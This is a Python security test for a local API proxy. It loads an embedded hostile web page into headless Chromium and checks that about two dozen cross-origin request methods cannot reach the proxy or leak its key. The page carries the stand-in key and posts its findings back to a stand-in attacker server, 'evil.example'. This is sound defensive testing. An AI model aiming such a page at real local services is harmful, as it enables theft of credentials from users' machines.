"""D1: what a page in a real browser can send to `kist proxy` reaches neither the platform nor the page."""

import json
import os
import re
import shutil
import signal
import subprocess
import threading

from stubs import Answer, Stub
from test_proxy import Running, kumo

# Every way in which a page sends something to an address of its choice. The stand-in is given to it: even a page that knows it
# is refused, because it is a page.
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const targets = TARGETS, standIn = STANDIN, path = "/api/v1/connectors";
const told = [];
const wait = milliseconds => new Promise(done => setTimeout(done, milliseconds));
async function one(name, body) {
    try { told.push([name, String(await Promise.race([body(), wait(3000).then(() => "silence")]))]); }
    catch (problem) { told.push([name, "refused: " + problem]); }
}
function element(kind, attributes) {
    return new Promise((done, fail) => {
        const made = document.createElement(kind);
        made.onload = () => done("loaded");
        made.onerror = () => fail("error");
        Object.assign(made, attributes);
        document.body.append(made);
    });
}
function form(method, target, encoding) {
    const frame = document.createElement("iframe"), made = document.createElement("form");
    frame.name = "frame" + Math.random();
    Object.assign(made, {method, action: target + path, enctype: encoding, target: frame.name});
    made.innerHTML = `<input name="X-API-Key" value="${standIn}">`;
    document.body.append(frame, made);
    return new Promise(done => { frame.onload = () => done("loaded"); made.submit(); });
}
(async () => {
    for (const target of targets) {
        const ask = options => () => fetch(target + path, options).then(a => a.text().then(text => a.type + " " + a.status + " " + text));
        await one("fetch", ask({}));
        await one("fetch no-cors", ask({mode: "no-cors"}));
        await one("fetch with credentials", ask({mode: "no-cors", credentials: "include"}));
        await one("fetch with the stand-in", ask({headers: {"X-API-Key": standIn}}));
        await one("fetch as a bearer", ask({headers: {"Authorization": "Bearer " + standIn}}));
        for (const method of ["POST", "PUT", "DELETE", "PATCH"])
            await one(method, ask({method, body: "{}", headers: {"X-API-Key": standIn}}));
        await one("simple POST", ask({mode: "no-cors", method: "POST", body: "{}", headers: {"Content-Type": "text/plain"}}));
        await one("no referrer", ask({mode: "no-cors", referrerPolicy: "no-referrer"}));
        await one("keepalive", ask({mode: "no-cors", keepalive: true, method: "POST", body: "x"}));
        await one("user in the address", () => fetch(target.replace("://", `://x:${standIn}@`) + path));
        await one("beacon", async () => navigator.sendBeacon(target + path, "x"));
        await one("image", () => element("img", {src: target + path + "?image"}));
        await one("script", () => element("script", {src: target + path}));
        await one("style", () => element("link", {rel: "stylesheet", href: target + path}));
        await one("frame", () => element("iframe", {src: target + path}));
        await one("object", () => element("object", {data: target + path}));
        await one("form GET", () => form("get", target, "application/x-www-form-urlencoded"));
        await one("form POST", () => form("post", target, "text/plain"));
        await one("events", () => new Promise((done, fail) => {
            const source = new EventSource(target + path);
            source.onmessage = () => done("message");
            source.onerror = () => { source.close(); fail("error"); };
        }));
        await one("web socket", () => new Promise((done, fail) => {
            const socket = new WebSocket(target.replace("http", "ws") + path);
            socket.onopen = () => done("open");
            socket.onerror = () => fail("error");
        }));
        await one("worker", () => new Promise((done, fail) => {
            const source = `fetch(${JSON.stringify(target + path)}).then(a => a.text()).then(postMessage, e => postMessage("refused"))`;
            const worker = new Worker(URL.createObjectURL(new Blob([source])));
            worker.onmessage = message => done(message.data);
            worker.onerror = fail;
        }));
    }
    await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


class Evil(Stub):
    """Somebody's web server, with the page and what the page tells it."""

    name = "evil"

    def __init__(self, log, certificate=None, page=""):
        self.page, self.told, self.done = page, None, threading.Event()
        super().__init__(log, certificate)

    def answer(self, request):
        if request.path == "/told":
            self.told = request.json()
            self.done.set()
        return Answer(200, self.page, {"Content-Type": "text/html; charset=utf-8"})


class Careless(Stub):
    """The control: a server on this machine that answers whoever asks."""

    name = "careless"

    def answer(self, request):
        names = ("Origin", "Methods", "Headers")
        return Answer(200, "careless", {f"Access-Control-Allow-{name}": "*" for name in names})


def browse(world, address, seen):
    """Opens the page in Chromium until it has told what came of it. `evil.example` is a name that leads to this machine."""
    program = shutil.which("chromium-headless-shell") or shutil.which("chromium")
    assert program, "no browser here: Scripts/install-needs test"
    folder = world.at("private", "browser")
    process = subprocess.Popen(
        [program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--remote-debugging-port=0",
         f"--user-data-dir={folder}", "--no-proxy-server", "--host-resolver-rules=MAP evil.example 127.0.0.1", address],
        env={"PATH": "/usr/bin:/bin", "HOME": folder, "LANG": "C.UTF-8"}, start_new_session=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    try:
        assert seen.wait(180), f"the page told nothing; the browser's status: {process.poll()}"
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def test_no_page_in_a_browser_reaches_it(world):
    stub, key = kumo(world, "page")
    careless = world.stub(Careless)
    with Running(world, "page") as proxy:
        assert proxy.ask()[0] == 200
        before = len(stub.received())
        targets = [f"http://127.0.0.1:{proxy.port}", f"http://localhost:{proxy.port}", f"http://evil.example:{proxy.port}"]
        page = PAGE.replace("TARGETS", json.dumps([*targets, careless.origin]))
        page = page.replace("STANDIN", json.dumps(proxy.variables["KUMO_API_KEY"]))
        # From a page of another name, and from one of this machine (a development server, a notebook).
        for host in ("evil.example", "127.0.0.1"):
            evil = world.stub(Evil, page=page)
            browse(world, f"http://{host}:{evil.port}/", evil.done)
            assert len(evil.told) == 4 * 24, evil.told
            # An answer that a page may read is of the type cors or basic, whatever its status.
            assert not any(re.match("(cors|basic) ", text) for _, text in evil.told[: 3 * 24]), evil.told
            assert key not in json.dumps(evil.told), evil.told
            # The control: the same page got through to a server that looks at nothing.
            assert ["fetch", "cors 200 careless"] in evil.told[3 * 24 :], evil.told
        assert len(stub.received()) == before, stub.received()[before:]
        methods = {request["method"] for request in careless.received()}
        assert {"GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS"} <= methods, careless.received()
        assert proxy.ask()[0] == 200
